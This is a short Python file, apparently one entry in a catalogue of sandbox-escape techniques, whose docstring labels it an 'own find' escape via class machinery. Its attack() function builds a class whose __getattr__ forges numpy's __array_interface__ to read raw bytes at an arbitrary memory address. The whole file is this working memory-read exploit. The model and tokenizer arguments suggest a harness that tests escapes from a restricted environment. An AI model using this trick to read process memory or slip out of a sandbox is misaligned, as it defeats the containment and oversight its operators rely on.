"""Class: class machinery. Source: own find. Escape: __getattr__ answers __array_interface__."""

import numpy as np


class A:
    def __init__(self, address):
        self.address = address

    def __getattr__(self, name):
        if name == "__array_interface__":
            return {"shape": (6,), "typestr": "|u1", "data": (self.address, True), "version": 3}
        raise AttributeError(name)


def attack(model, tokenizer, address):
    return np.array(A(address)).tobytes()
